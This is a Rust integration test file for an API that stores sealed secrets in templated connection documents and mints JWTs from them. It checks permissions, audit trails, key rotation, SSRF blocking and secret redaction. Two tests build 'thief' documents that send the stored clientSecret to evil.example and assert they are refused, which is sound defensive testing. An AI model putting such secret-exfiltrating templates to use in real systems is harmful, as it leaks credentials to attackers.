//! `/connections`

use std::sync::Arc;

use aws_lc_rs::hmac;
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use narthex_directory::{DocumentAt, DocumentKind, Documents, NewDocument};
use narthex_engine::{ConnectionSettings, SealingKey, SealingKeys};
use narthex_fetch::outbound::Policy;
use narthex_fetch::ssrf_guard::{Guard, Loopback};
use serde_json::{Value, json};

use super::fixture::{Fixture, NOW_MS};

/// S2's document, its `url` apart.
const DOCUMENT: &str = include_str!("../../../../connection/tests/documents/make_jwt.json");
const SECRET: &str = "correct-horse-battery-staple";

fn key(first: u8) -> SealingKey {
    let hex = (first..first + 32).fold(String::new(), |hex, byte| format!("{hex}{byte:02x}"));
    SealingKey::parse(hex.as_bytes()).unwrap()
}

pub(crate) fn seal_with(api: &Fixture, current: u8, previous: Option<u8>) -> Arc<SealingKeys> {
    let keys = Arc::new(SealingKeys::new(key(current), previous.map(key)));
    *api.gateway.connections.lock().unwrap() = Arc::new(ConnectionSettings {
        sealing: Some(Arc::clone(&keys)),
        ..ConnectionSettings::default()
    });
    keys
}

/// An organization with an admin, a member and an executor, and S2's connection in it.
async fn world() -> (Fixture, String) {
    let api = Fixture::new().await;
    seal_with(&api, 1, None);
    api.post(
        "/organizations",
        json!({
            "name": "acme", "external_admin_groups": "acme-admins", "external_member_groups": "acme-staff",
            "external_executor_groups": "acme-robots",
        }),
    )
    .await;
    api.post(
        "/organizations",
        json!({"name": "globex", "external_admin_groups": "globex-admins"}),
    )
    .await;
    for (name, tag) in [
        ("ada", "acme-admins"),
        ("max", "acme-staff"),
        ("robot", "acme-robots"),
        ("eve", "globex-admins"),
    ] {
        api.sign_in(name, &[tag]).await;
    }
    let made = api
        .call_as(
            "ada",
            "POST",
            "/connections",
            Some(json!({
                "organization": "acme", "name": "billing", "document": DOCUMENT,
                "parameters": {"clientId": "my-client-id", "clientSecret": SECRET},
            })),
        )
        .await;
    let id = made.expect(201)["id"].as_str().unwrap().to_owned();
    (api, id)
}

/// The claims of the token in `Authorization`, whose signature must be of this secret.
fn verified(rendered: &Value, secret: &str) -> (Value, Value) {
    let header = &rendered["headers"][0];
    assert_eq!(header["name"], "Authorization");
    let token = header["value"].as_str().unwrap().strip_prefix("Bearer ").unwrap();
    let (signed, signature) = token.rsplit_once('.').unwrap();
    let key = hmac::Key::new(hmac::HMAC_SHA512, secret.as_bytes());
    hmac::verify(&key, signed.as_bytes(), &URL_SAFE_NO_PAD.decode(signature).unwrap()).unwrap();
    let (head, claims) = signed.split_once('.').unwrap();
    let part = |part: &str| serde_json::from_slice(&URL_SAFE_NO_PAD.decode(part).unwrap()).unwrap();
    (part(head), part(claims))
}

#[tokio::test]
async fn members_use_what_admins_wrote_and_every_mint_leaves_a_trace() {
    let (api, id) = world().await;
    let rendered = api
        .call_as("max", "POST", &format!("/connections/{id}/headers"), None)
        .await
        .expect(200);
    assert_eq!(rendered["method"], "GET");
    assert_eq!(rendered["url"], "https://mock.api/connect");
    let (head, claims) = verified(&rendered, SECRET);
    assert_eq!(head, json!({"alg": "HS512", "typ": "JWT", "kid": "my-client-id"}));
    assert_eq!(claims["iat"], NOW_MS / 1000);
    let events = api.get("/audit-events?limit=200").await;
    let events = events["items"].as_array().unwrap();
    let minted: Vec<&Value> = events
        .iter()
        .filter(|event| event["action"] == "connection.minted")
        .collect();
    assert_eq!(minted.len(), 1);
    assert_eq!(
        minted[0]["detail"]["claim_names"],
        json!(["iss", "iat", "exp", "scope", "aud"])
    );
    assert_eq!(minted[0]["detail"]["sha256"].as_str().unwrap().len(), 64);
    let trail = serde_json::to_string(events).unwrap();
    let token = rendered["headers"][0]["value"]
        .as_str()
        .unwrap()
        .rsplit('.')
        .next()
        .unwrap();
    assert!(!trail.contains(token) && !trail.contains(SECRET), "{trail}");
}

#[tokio::test]
async fn who_may_do_what() {
    let (api, id) = world().await;
    let (path, use_it) = (format!("/connections/{id}"), format!("/connections/{id}/headers"));
    for (who, read, document, used, changed) in [
        ("ada", 200, true, 200, 200),
        ("max", 200, false, 200, 403),
        ("robot", 403, false, 403, 403),
        ("eve", 403, false, 403, 403),
    ] {
        let seen = api.call_as(who, "GET", &path, None).await;
        assert_eq!(seen.status.as_u16(), read, "{who}");
        if read == 200 {
            assert_eq!(seen.json()["document"].is_string(), document, "{who}");
            let needed = json!([
                {"name": "clientId", "needed": true, "given": true},
                {"name": "clientSecret", "needed": true, "given": true},
            ]);
            assert_eq!(seen.json()["parameters"], needed, "{who}");
        }
        let status = |reply: super::fixture::Reply| reply.status.as_u16();
        assert_eq!(status(api.call_as(who, "POST", &use_it, None).await), used, "{who}");
        let change = Some(json!({"name": "invoices"}));
        assert_eq!(status(api.call_as(who, "PATCH", &path, change).await), changed, "{who}");
        let list = api.call_as(who, "GET", "/connections?organization=acme", None).await;
        assert_eq!(list.status.as_u16(), read, "{who}");
    }
    // Whoever reaches another organization only cannot tell this connection from none.
    let none = "/connections/01hf7yat000000000000000019";
    let (other, nothing) = (
        api.call_as("eve", "GET", &path, None).await,
        api.call_as("eve", "GET", none, None).await,
    );
    assert_eq!(other.json()["detail"], nothing.json()["detail"]);
    api.call("GET", none, None).await.problem(404, "resource.unknown");
}

/// Its own admin reads why a name is not found, not that the role is missing; and so for every record with an id.
#[tokio::test]
async fn a_name_in_place_of_an_id_is_not_found() {
    let (api, _) = world().await;
    for (method, path, list) in [
        ("POST", "/connections/billing/headers", "connections"),
        ("GET", "/connections/billing", "connections"),
        ("GET", "/teams/core", "teams"),
        ("PUT", "/organizations/acme/members/zed", "users"),
    ] {
        let body = (method == "PUT").then(|| json!({"role": "member"}));
        let answer = api.call_as("ada", method, path, body).await;
        let detail = answer.problem(404, "resource.unknown");
        assert!(detail.contains(&format!("`GET /api/v1/{list}`")), "{path}: {detail}");
    }
    for path in ["/users/ada", "/api-keys/ci"] {
        let method = if path.starts_with("/users") { "GET" } else { "DELETE" };
        let detail = api.call(method, path, None).await.problem(404, "resource.unknown");
        assert!(detail.contains("named by their ids"), "{path}: {detail}");
    }
}

#[tokio::test]
async fn sec_connection_secrets_are_never_read_back() {
    let (api, id) = world().await;
    let path = format!("/connections/{id}");
    for reply in [
        api.call("GET", &path, None).await,
        api.call("GET", "/connections", None).await,
        api.call("GET", "/audit-events", None).await,
        api.call("PATCH", &path, Some(json!({"name": "x"}))).await,
    ] {
        assert!(!reply.text().contains(SECRET), "{}", reply.text());
    }
    let kept = api
        .directory
        .document(DocumentKind::Connection, id.clone())
        .await
        .unwrap()
        .unwrap();
    let sealed = kept.secret.unwrap().0;
    assert!(!sealed.windows(SECRET.len()).any(|window| window == SECRET.as_bytes()));
    assert!(!format!("{:?}", kept.body).contains(SECRET));
    // Another document could show what is kept: it is taken only with all of it given again.
    let thief = json!({"url": "https://evil.example/", "headers": {"x": "{{parameters.clientSecret}}"}});
    let refused = api
        .call_as("ada", "PATCH", &path, Some(json!({"document": thief})))
        .await
        .problem(422, "resource.invalid");
    assert!(
        refused.contains("`parameters.clientId`, `parameters.clientSecret`"),
        "{refused}"
    );
    let half = json!({"document": thief, "parameters": {"clientId": "other"}});
    api.call_as("ada", "PATCH", &path, Some(half))
        .await
        .problem(422, "resource.invalid");
    let forgotten = json!({"document": thief, "parameters": null});
    let now = api.call_as("ada", "PATCH", &path, Some(forgotten)).await.expect(200);
    assert_eq!(
        now["parameters"],
        json!([{"name": "clientSecret", "needed": true, "given": false}])
    );
    let rendered = api
        .call_as("ada", "POST", &format!("{path}/headers"), None)
        .await
        .expect(200);
    assert_eq!(rendered["headers"], json!([]));
}

#[tokio::test]
async fn parameters_are_merged_and_the_same_document_keeps_them() {
    let (api, id) = world().await;
    let path = format!("/connections/{id}");
    let change = json!({"document": DOCUMENT, "parameters": {"clientSecret": "another-secret", "unused": 1}});
    // With the document that they are for, secrets need no `If-Match`: nobody can put another one there.
    let now = api.call("PATCH", &path, Some(change)).await.expect(200);
    assert_eq!(
        now["parameters"][2],
        json!({"name": "unused", "needed": false, "given": true})
    );
    let rendered = api.call("POST", &format!("{path}/headers"), None).await.expect(200);
    let (head, _) = verified(&rendered, "another-secret");
    assert_eq!(head["kid"], "my-client-id");
    let change = json!({"parameters": {"unused": null}});
    let now = api.call("PATCH", &path, Some(change)).await.expect(200);
    assert_eq!(now["parameters"].as_array().unwrap().len(), 2);
    let stale = api
        .call_with("PATCH", &path, Some(json!({"name": "x"})), &[("if-match", "\"1\"")])
        .await;
    stale.problem(412, "resource.changed");
}

#[tokio::test]
async fn everything_wrong_with_a_document_is_said_at_once() {
    let (api, _) = world().await;
    let document = "{\n  \"ulr\": \"https://a.example\",\n  \"headers\": {\"x\": \"{{lowr(parameters.a)}}\"}\n}";
    let body = json!({"organization": "acme", "name": "x", "document": document});
    let detail = api
        .call("POST", "/connections", Some(body))
        .await
        .problem(422, "resource.invalid");
    for part in ["`url`", "line 3", "`lower`"] {
        assert!(detail.contains(part), "{part}: {detail}");
    }
}

#[tokio::test]
async fn the_callers_context_is_the_environment() {
    let (api, _) = world().await;
    let document = json!({
        "url": "https://a.example/{{environment.organization.name}}",
        "headers": {"x-domain": "{{ifempty(environment.context.customBaseDomain, 'none')}}"},
    });
    let body = json!({"organization": "acme", "name": "x", "document": document});
    let made = api.post("/connections", body).await;
    let path = format!("/connections/{}/headers", made["id"].as_str().unwrap());
    let rendered = api.call_as("max", "POST", &path, None).await.expect(200);
    assert_eq!(rendered["url"], "https://a.example/acme");
    assert_eq!(rendered["headers"], json!([{"name": "X-Domain", "value": "none"}]));
}

#[tokio::test]
async fn the_key_is_changed_by_way_of_two() {
    let (api, id) = world().await;
    let use_it = format!("/connections/{id}/headers");
    let both = seal_with(&api, 100, Some(1));
    api.call("POST", &use_it, None).await.expect(200);
    let by = api.by();
    let again = narthex_admin::reseal(&*api.directory, &both, &by).await.unwrap();
    assert_eq!((again.sealed_again, again.failed.len()), (1, 0));
    let again = narthex_admin::reseal(&*api.directory, &both, &by).await.unwrap();
    assert_eq!((again.sealed_again, again.failed.len()), (0, 0));
    seal_with(&api, 100, None);
    let rendered = api.call("POST", &use_it, None).await.expect(200);
    verified(&rendered, SECRET);
    seal_with(&api, 200, None);
    let detail = api.call("POST", &use_it, None).await.problem(409, "connection.secrets");
    assert!(detail.contains("another key"), "{detail}");
    *api.gateway.connections.lock().unwrap() = Arc::default();
    let detail = api.call("POST", &use_it, None).await.problem(409, "connection.secrets");
    assert!(detail.contains("NARTHEX_SECRET_KEY"), "{detail}");
    // Without secrets no key is needed.
    let body = json!({"organization": "acme", "name": "x", "document": {"url": "https://a.example"}});
    api.post("/connections", body).await;
}

#[tokio::test]
async fn a_failing_template_says_where_and_no_secret() {
    let (api, id) = world().await;
    let path = format!("/connections/{id}");
    // Taking away needs no `If-Match`.
    api.call("PATCH", &path, Some(json!({"parameters": {"clientSecret": null}})))
        .await
        .expect(200);
    let detail = api
        .call("POST", &format!("{path}/headers"), None)
        .await
        .problem(422, "connection.failed");
    assert!(detail.contains("/headers/authorization"), "{detail}");
    assert!(detail.contains("secretOrPrivateKey must have a value"), "{detail}");
}

#[tokio::test]
async fn a_removed_connection_is_gone() {
    let (api, id) = world().await;
    let path = format!("/connections/{id}");
    api.call_as("max", "DELETE", &path, None)
        .await
        .problem(403, "organization.role");
    api.call_as("ada", "DELETE", &path, None).await.expect(204);
    api.call("GET", &path, None).await.problem(404, "resource.unknown");
}

/// A service that answers every request alike, and where it is.
async fn service(status: u16, body: Value) -> std::net::SocketAddr {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let answer = move || async move { (axum::http::StatusCode::from_u16(status).unwrap(), axum::Json(body)) };
    let router = axum::Router::new().fallback(answer);
    tokio::spawn(async move { axum::serve(listener, router).await });
    address
}

/// Lets connections reach this machine.
fn allow_loopback(api: &Fixture) {
    let settings = api.gateway.connections.lock().unwrap().sealing.clone();
    let hosts = vec!["127.0.0.1:*".parse().unwrap()];
    *api.gateway.connections.lock().unwrap() = Arc::new(ConnectionSettings {
        sealing: settings,
        outbound: Policy {
            guard: Guard::new(["127.0.0.1"], Loopback::Permitted),
            ..Policy::listed(hosts)
        },
    });
}

async fn made(api: &Fixture, document: Value) -> String {
    let body = json!({
        "organization": "acme", "name": "x", "document": document, "parameters": {"key": SECRET},
    });
    let id = api.post("/connections", body).await["id"].as_str().unwrap().to_owned();
    format!("/connections/{id}")
}

#[tokio::test]
async fn a_test_sends_judges_and_keeps_what_it_learned() {
    let (api, _) = world().await;
    allow_loopback(&api);
    let at = service(
        200,
        json!({"id": 7, "mail": "ann@example.com", "access": "t0ken-of-the-service"}),
    )
    .await;
    let path = made(
        &api,
        json!({
            "url": format!("http://{at}/me?k={{{{parameters.key}}}}"),
            "headers": {"authorization": "Bearer {{jwt(temp.claims, parameters.key)}}"},
            "temp": {"claims": {"sub": "narthex"}},
            "response": {
                "uid": "{{body.id}}", "metadata": {"type": "email", "value": "{{body.mail}}"},
                "data": {"access": "{{body.access}}"}, "expires": "{{addHours(now, 1)}}",
            },
            "log": {"sanitize": ["response.headers.set-cookie"]},
        }),
    )
    .await;
    let tested = api.call_as("max", "POST", &format!("{path}/test"), None).await;
    let body = tested.expect(200);
    assert_eq!(
        (&body["valid"], &body["status"], &body["uid"]),
        (&json!(true), &json!(200), &json!("7"))
    );
    assert_eq!(body["data"], json!(["access"]));
    assert_eq!(body["request"]["headers"], json!(["Authorization: Bearer ***"]));
    assert_eq!(body["request"]["start"], format!("GET http://{at}/me?k=***"));
    assert!(
        !tested.text().contains(SECRET) && !tested.text().contains("t0ken"),
        "{}",
        tested.text()
    );
    let kept = api.call("GET", &path, None).await;
    assert_eq!(
        kept.json()["metadata"],
        json!({"type": "email", "value": "ann@example.com"})
    );
    assert_eq!(kept.json()["data"], json!(["access"]));
    assert_eq!(kept.json()["expires_at"], "2023-11-14T23:13:20.000Z");
    assert!(!kept.text().contains("t0ken"));
    let trail = api.get("/audit-events?limit=200").await.to_string();
    assert!(trail.contains("connection.tested") && trail.contains("connection.minted"));
    // The same again changes nothing.
    let version = kept.header("etag").to_owned();
    api.call("POST", &format!("{path}/test"), None).await.expect(200);
    let again = api.call("GET", &path, None).await;
    assert_eq!(again.header("etag"), version);
}

#[tokio::test]
async fn a_service_that_says_no_is_an_answer_without_secrets() {
    let (api, _) = world().await;
    allow_loopback(&api);
    let at = service(401, json!({"why": format!("the key {SECRET} is not known")})).await;
    let path = made(
        &api,
        json!({
            "url": format!("http://{at}/"), "headers": {"x-key": "{{parameters.key}}"},
            "response": {"error": {"401": {"message": "refused: {{body.why}}", "type": "InvalidAccessTokenError"}, "message": "?"}},
        }),
    )
    .await;
    let body = api.call("POST", &format!("{path}/test"), None).await.expect(200);
    assert_eq!(body["valid"], false);
    assert_eq!(body["error_type"], "InvalidAccessTokenError");
    assert_eq!(body["message"], "refused: the key *** is not known");
}

#[tokio::test]
async fn sec_connection_ssrf() {
    let (api, _) = world().await;
    let at = service(200, json!({})).await;
    let document = json!({"url": format!("http://{at}/"), "headers": {"x": "{{parameters.key}}"}});
    let path = made(&api, document).await;
    let refused = |body: Value| {
        assert_eq!(
            (&body["valid"], &body["error_type"]),
            (&json!(false), &json!("ConnectionError"))
        );
        body["message"].as_str().unwrap().to_owned()
    };
    // By default there is no host that may be asked.
    let message = refused(api.call("POST", &format!("{path}/test"), None).await.expect(200));
    assert!(message.contains("not among the hosts"), "{message}");
    // A host that is listed is still judged by its address.
    *api.gateway.connections.lock().unwrap() = Arc::new(ConnectionSettings {
        sealing: Some(Arc::new(SealingKeys::new(key(1), None))),
        outbound: Policy::listed(vec!["127.0.0.1:*".parse().unwrap()]),
    });
    let message = refused(api.call("POST", &format!("{path}/test"), None).await.expect(200));
    assert!(message.contains("loopback"), "{message}");
}

#[tokio::test]
async fn sec_connection_secrets_are_given_to_a_document_that_was_read() {
    let (api, id) = world().await;
    let path = format!("/connections/{id}");
    let change = Some(json!({"parameters": {"clientSecret": "new-secret"}}));
    let detail = api
        .call("PATCH", &path, change.clone())
        .await
        .problem(428, "resource.unconditional");
    assert!(detail.contains("If-Match"), "{detail}");
    let etag = api.call("GET", &path, None).await.header("etag").to_owned();
    let seen = [("if-match", etag.as_str())];
    api.call_with("PATCH", &path, change.clone(), &seen).await.expect(200);
    // Somebody was faster.
    api.call_with("PATCH", &path, change, &seen)
        .await
        .problem(412, "resource.changed");
}

/// Whoever may write to the database cannot have a document of their own shown the secrets of another.
#[tokio::test]
async fn sec_connection_secrets_open_for_their_document_only() {
    let (api, id) = world().await;
    let kept = api
        .directory
        .document(DocumentKind::Connection, id.clone())
        .await
        .unwrap()
        .unwrap();
    let mut body = kept.body.clone();
    let thief = r#"{"url": "https://evil.example/{{parameters.clientSecret}}"}"#;
    body.insert("document".to_owned(), thief.into());
    let new = NewDocument {
        kind: kept.kind,
        name: kept.name,
        organization: kept.organization,
        body,
        secret: kept.secret,
    };
    api.directory
        .save_document(new, DocumentAt::Any, api.by())
        .await
        .unwrap();
    let reply = api.call("POST", &format!("/connections/{id}/headers"), None).await;
    reply.problem(409, "connection.secrets");
    assert!(!reply.text().contains(SECRET));
    // One that does not open holds up no other when the key is changed, and is named.
    let body = json!({
        "organization": "acme", "name": "y", "document": {"url": "https://a.example"}, "parameters": {"a": "b"},
    });
    api.post("/connections", body).await;
    let both = seal_with(&api, 100, Some(1));
    let done = narthex_admin::reseal(&*api.directory, &both, &api.by()).await.unwrap();
    assert_eq!(done.sealed_again, 1);
    assert_eq!(done.failed[0].0, id);
}

#[tokio::test]
async fn a_suspended_organizations_connections_rest() {
    let (api, id) = world().await;
    api.call("PATCH", "/organizations/acme", Some(json!({"status": "suspended"})))
        .await
        .expect(200);
    let path = format!("/connections/{id}/headers");
    api.call("POST", &path, None)
        .await
        .problem(403, "organization.suspended");
}

/// What one test learns is not lost to another that runs beside it.
#[tokio::test]
async fn tests_beside_each_other_all_keep_what_they_learned() {
    let (api, _) = world().await;
    allow_loopback(&api);
    let at = service(200, json!({"id": 7})).await;
    let document = json!({
        "url": format!("http://{at}/{{{{parameters.key}}}}"),
        "response": {"uid": "{{body.id}}", "data": {"{{'k' + uuid}}": "{{uuid}}"}},
    });
    let path = made(&api, document).await;
    let test = format!("{path}/test");
    let runs = (0..4).map(|_| api.call("POST", &test, None));
    for reply in futures_util::future::join_all(runs).await {
        assert_eq!(reply.expect(200)["valid"], true);
    }
    let kept = api.get(&path).await;
    assert_eq!(kept["data"].as_array().unwrap().len(), 4, "{kept}");
}

#[tokio::test]
async fn more_than_is_kept_is_refused() {
    let (api, _) = world().await;
    let large: serde_json::Map<String, Value> = (0..5)
        .map(|index| (format!("p{index}"), "x".repeat(60_000).into()))
        .collect();
    let mut path = String::new();
    for (name, value) in large {
        let status = if path.is_empty() {
            let body = json!({
                "organization": "acme", "name": "x", "document": {"url": "https://a.example"},
                "parameters": {&name: value},
            });
            let made = api.post("/connections", body).await;
            path = format!("/connections/{}", made["id"].as_str().unwrap());
            200
        } else {
            let change = json!({"parameters": {&name: value}});
            let reply = api.call_with("PATCH", &path, Some(change), &[("if-match", "*")]).await;
            reply.status.as_u16()
        };
        assert_eq!(status, if name == "p4" { 409 } else { 200 }, "{name}");
    }
}

#[tokio::test]
async fn null_is_refused_for_its_name_and_document() {
    let (api, _) = world().await;
    let document: Value = serde_json::from_str(DOCUMENT).unwrap();
    let path = made(&api, document).await;
    let before = api.get(&path).await;
    for field in ["name", "document"] {
        let reply = api.call("PATCH", &path, Some(json!({field: null}))).await;
        let detail = reply.problem(422, "resource.invalid");
        assert!(detail.starts_with(&format!("`{field}`: ")), "{detail}");
    }
    assert_eq!(api.get(&path).await, before);
}
